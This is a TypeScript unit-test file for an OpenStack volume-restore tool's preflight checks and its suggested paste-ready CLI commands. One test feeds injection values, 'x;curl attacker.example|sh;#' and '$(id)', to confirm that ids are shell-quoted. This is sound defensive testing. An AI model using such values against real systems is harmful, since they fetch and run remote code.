import { expect } from 'chai';
import { type Backup, describeAttachment, type Volume } from '../../src/domain/cloud.ts';
import { identityProblems, unmetPreconditions } from '../../src/domain/preflight.ts';
import type { Expectation } from '../../src/domain/spec.ts';

const VOLUME: Volume = { id: 'v', name: 'data', status: 'available', size: 10, attachments: [] };
const BACKUP: Backup = {
  id: 'b',
  name: 'nightly',
  status: 'available',
  size: 10,
  volume_id: 'v',
  created_at: '2026-11-23T00:00:00Z',
};
const NAMED = { server_id: 'id-1', server_name: 'db1', device: '/dev/vdb' };
const HOME = { project_id: 'p1', region: 'eu-de' };
const UUID = 'c96e4a94-927a-425c-8795-63f9964cfebd';

interface Seen {
  readonly volume?: Partial<Volume>;
  readonly backup?: Partial<Backup>;
  readonly expect?: Expectation;
}

function problems({ volume = {}, backup = {}, expect = {} }: Seen) {
  return identityProblems({ ...VOLUME, ...volume }, { ...BACKUP, ...backup }, expect, HOME);
}

describe('commands to paste', () => {
  const odd = { server_id: 'x;curl attacker.example|sh;#', server_name: 'db1' };

  it('quote ids so that nothing in them runs', () => {
    const [wait] = unmetPreconditions({ ...VOLUME, status: 'in-use', attachments: [odd] }, BACKUP);
    expect(wait?.commands).to.deep.equal([
      "openstack server stop 'x;curl attacker.example|sh;#'",
      "openstack server remove volume 'x;curl attacker.example|sh;#' v",
    ]);
    const [problem] = identityProblems({ ...VOLUME, id: '$(id)', status: 'error' }, BACKUP, {}, HOME);
    expect(problem?.remedy).to.match(/--state available '\$\(id\)'$/);
  });
});

describe('identityProblems', () => {
  const cases: { [name: string]: [Seen, string[]] } = {
    'disk and backup as they should be': [{}, []],
    'a disk of this project': [{ volume: { project_id: 'p1' } }, []],
    'a disk of another project': [{ volume: { project_id: 'p2' } }, ['volume-of-another-project']],
    'a disk in error': [{ volume: { status: 'error' } }, ['volume-in-error']],
    'a disk whose last restore failed': [{ volume: { status: 'error_restoring' } }, ['volume-in-error']],
    'a disk whose extension failed': [{ volume: { status: 'error_extending' } }, ['volume-in-error']],
    'a disk whose rollback failed': [{ volume: { status: 'error_rollbacking' } }, ['volume-in-error']],
    'a disk whose deletion failed': [{ volume: { status: 'error_deleting' } }, ['volume-in-error']],
    'a disk whose backup failed': [{ volume: { status: 'error_backing-up' } }, ['volume-in-error']],
    'a disk being deleted': [{ volume: { status: 'deleting' } }, ['volume-deleting']],
    'a disk in use: no matter yet': [{ volume: { status: 'in-use', attachments: [NAMED] } }, []],
    'a disk being restored: no matter yet': [{ volume: { status: 'restoring-backup' } }, []],
    'a status that only begins like an error': [{ volume: { status: 'errored' } }, []],
    'a backup of this project': [{ backup: { project_id: 'p1' } }, []],
    'a backup that was shared': [{ backup: { project_id: 'p2' } }, ['backup-shared']],
    'a backup in error': [{ backup: { status: 'error' } }, ['backup-unusable']],
    'a backup being deleted': [{ backup: { status: 'deleting' } }, ['backup-unusable']],
    'a backup whose restore failed': [{ backup: { status: 'error_restoring' } }, ['backup-unusable']],
    'a backup whose deletion failed': [{ backup: { status: 'error_deleting' } }, ['backup-unusable']],
    'a backup being made: no matter yet': [{ backup: { status: 'creating' } }, []],
    'a backup being used: no matter yet': [{ backup: { status: 'restoring' } }, []],
    'zones of this region': [
      { volume: { availability_zone: 'eu-de-01' }, backup: { availability_zone: 'eu-de-03' } },
      [],
    ],
    'a disk in a zone of another region': [
      { volume: { availability_zone: 'eu-nl-01' }, backup: { availability_zone: 'eu-de-01' } },
      ['another-region'],
    ],
    'a backup in a zone of another region': [
      { volume: { availability_zone: 'eu-de-01' }, backup: { availability_zone: 'eu-nl-01' } },
      ['another-region'],
    ],
    'zones that are not named after regions': [
      { volume: { availability_zone: 'nova' }, backup: { availability_zone: 'az-2' } },
      [],
    ],
    'a backup that tells no zone': [{ volume: { availability_zone: 'eu-nl-01' } }, []],
    'a disk as large as the backup': [{ volume: { size: 10 }, backup: { size: 10 } }, []],
    'a larger disk': [{ volume: { size: 11 } }, []],
    'a smaller disk': [{ volume: { size: 9 } }, ['volume-too-small']],
    'a backup of another disk': [{ backup: { volume_id: 'w' } }, []],
    'the expected name': [{ expect: { volume_name: 'data' } }, []],
    'another name': [{ expect: { volume_name: 'Data' } }, ['expectation-not-met']],
    'the expected size': [{ expect: { size: 10 } }, []],
    'another size': [{ expect: { size: 11 } }, ['expectation-not-met']],
    'the expected server, by name': [{ volume: { attachments: [NAMED] }, expect: { server: 'db1' } }, []],
    'the expected server, by id': [{ volume: { attachments: [NAMED] }, expect: { server: 'id-1' } }, []],
    'another server': [
      { volume: { attachments: [NAMED] }, expect: { server: 'db2' } },
      ['expectation-not-met'],
    ],
    'one of several servers': [
      { volume: { attachments: [{ server_id: 'x', server_name: 'y' }, NAMED] }, expect: { server: 'db1' } },
      [],
    ],
    'detached: nothing to compare': [{ expect: { server: 'db1' } }, []],
    'a name where the cloud tells none': [
      { volume: { attachments: [{ server_id: 'x' }] }, expect: { server: 'db1' } },
      [],
    ],
    'another id where the cloud tells no name': [
      { volume: { attachments: [{ server_id: 'x' }] }, expect: { server: UUID } },
      ['expectation-not-met'],
    ],
    'everything at once': [
      {
        volume: { project_id: 'p2', status: 'error', size: 1 },
        backup: { project_id: 'p2', status: 'error' },
        expect: { volume_name: 'x', size: 2 },
      },
      [
        'volume-of-another-project',
        'volume-in-error',
        'backup-shared',
        'backup-unusable',
        'volume-too-small',
        'expectation-not-met',
        'expectation-not-met',
      ],
    ],
  };
  for (const [name, [seen, codes]] of Object.entries(cases))
    it(name, () => expect(problems(seen).map(({ code }) => code)).to.deep.equal(codes));

  it('are errors, each with a remedy', () => {
    const all = problems({
      volume: { project_id: 'p2', status: 'error', size: 1 },
      backup: { project_id: 'p2', status: 'error' },
      expect: { volume_name: 'x' },
    });
    for (const problem of all) {
      expect(problem.severity).to.equal('error');
      expect(problem.remedy, problem.code).to.be.a('string').and.not.equal('');
    }
  });

  it('show the expected and the real value, and where to fix it', () => {
    const [name] = problems({ volume: { name: '' }, expect: { volume_name: 'data' } });
    expect(name?.summary).to.equal('expected volume name data, but it is (none)');
    expect(name?.remedy).to.contain('expect.volume_name');
    const [server] = problems({ volume: { attachments: [NAMED] }, expect: { server: 'db2' } });
    expect(server?.summary).to.equal('expected server db2, but it is db1 (/dev/vdb)');
  });

  it('include the message of the service about a broken backup', () => {
    const [broken] = problems({ backup: { status: 'error', fail_reason: 'no space' } });
    expect(broken?.detail).to.contain('no space');
  });

  it('say how to extend a disk that is too small', () => {
    expect(problems({ backup: { size: 40 } })[0]?.remedy).to.contain('openstack volume set --size 40 v');
  });
});

describe('unmetPreconditions', () => {
  const whats = (volume: Partial<Volume>, backup: Partial<Backup> = {}) =>
    unmetPreconditions({ ...VOLUME, ...volume }, { ...BACKUP, ...backup }).map(({ what }) => what);
  const cases: { [name: string]: [Partial<Volume>, Partial<Backup>, string[]] } = {
    'nothing when both are available': [{}, {}, []],
    'each server to be detached': [
      { status: 'in-use', attachments: [NAMED, { server_id: 'id-2' }] },
      {},
      ['the disk is attached to db1 (/dev/vdb)', 'the disk is attached to id-2'],
    ],
    'in use, nobody tells by whom': [{ status: 'in-use' }, {}, ['the status of the disk is in-use']],
    'busy first, then to be detached': [
      { status: 'backing-up', attachments: [NAMED] },
      {},
      ['a backup of the disk is being made', 'the disk is attached to db1 (/dev/vdb)'],
    ],
    'detaching already': [{ status: 'detaching', attachments: [NAMED] }, {}, ['the disk is being detached']],
    creating: [{ status: 'creating' }, {}, ['the disk is being created']],
    attaching: [{ status: 'attaching' }, {}, ['the disk is being attached']],
    reserved: [{ status: 'reserved' }, {}, ['a server is about to attach the disk']],
    'restoring-backup': [{ status: 'restoring-backup' }, {}, ['another restore into the disk is running']],
    'backing-up': [{ status: 'backing-up' }, {}, ['a backup of the disk is being made']],
    uploading: [{ status: 'uploading' }, {}, ['an image of the disk is being made']],
    downloading: [{ status: 'downloading' }, {}, ['an image is being written to the disk']],
    extending: [{ status: 'extending' }, {}, ['the disk is being extended']],
    rollbacking: [{ status: 'rollbacking' }, {}, ['the disk is being rolled back to a snapshot']],
    'awaiting-transfer': [
      { status: 'awaiting-transfer' },
      {},
      ['a transfer of the disk to another project is pending'],
    ],
    'a status nobody has heard of': [{ status: 'retyping' }, {}, ['the status of the disk is retyping']],
    'a backup being made': [{}, { status: 'creating' }, ['the backup is being made']],
    'a backup being used': [{}, { status: 'restoring' }, ['another restore from the backup is running']],
    'a backup in a status nobody has heard of': [
      {},
      { status: 'copying' },
      ['the status of the backup is copying'],
    ],
    both: [
      { status: 'attaching' },
      { status: 'creating' },
      ['the disk is being attached', 'the backup is being made'],
    ],
  };
  for (const [name, [volume, backup, expected]] of Object.entries(cases))
    it(name, () => expect(whats(volume, backup)).to.deep.equal(expected));

  describe('a backup of the disk that is being created', () => {
    const other = { ...BACKUP, id: 'c', name: 'hourly', status: 'creating' };
    const made = (volume: Partial<Volume>, pendingBackups: Backup[]) =>
      unmetPreconditions({ ...VOLUME, ...volume }, BACKUP, pendingBackups).map(({ what }) => what);
    it('is waited for', () =>
      expect(made({}, [other])).to.deep.equal(['backup hourly of the disk is being made']));
    it('is reported once if the status of the disk shows it, too', () =>
      expect(made({ status: 'backing-up' }, [other])).to.have.length(1));
    it('is ignored if it is of another disk', () =>
      expect(made({}, [{ ...other, volume_id: 'w' }])).to.deep.equal([]));
    it('is ignored once it is complete', () =>
      expect(made({}, [{ ...other, status: 'available' }])).to.deep.equal([]));
    it('is waited for once if it is the one to restore', () =>
      expect(
        unmetPreconditions(VOLUME, { ...BACKUP, status: 'creating' }, [
          { ...BACKUP, status: 'creating' },
        ]).map(({ what }) => what),
      ).to.deep.equal(['the backup is being made']));
  });

  it('list the commands that cancel a transfer', () => {
    const [wait] = unmetPreconditions({ ...VOLUME, status: 'awaiting-transfer' }, BACKUP);
    expect(wait?.commands).to.deep.equal([
      'openstack volume transfer request list',
      'openstack volume transfer request delete REQUEST',
    ]);
  });

  it('list the commands that detach, in order', () => {
    const [wait] = unmetPreconditions({ ...VOLUME, status: 'in-use', attachments: [NAMED] }, BACKUP);
    expect(wait?.commands).to.deep.equal([
      'openstack server stop id-1',
      'openstack server remove volume id-1 v',
    ]);
  });
});

describe('describeAttachment', () => {
  it('uses the name of the server and adds the device', () => {
    expect(describeAttachment(NAMED)).to.equal('db1 (/dev/vdb)');
    expect(describeAttachment({ server_id: 'id-1' })).to.equal('id-1');
  });
});
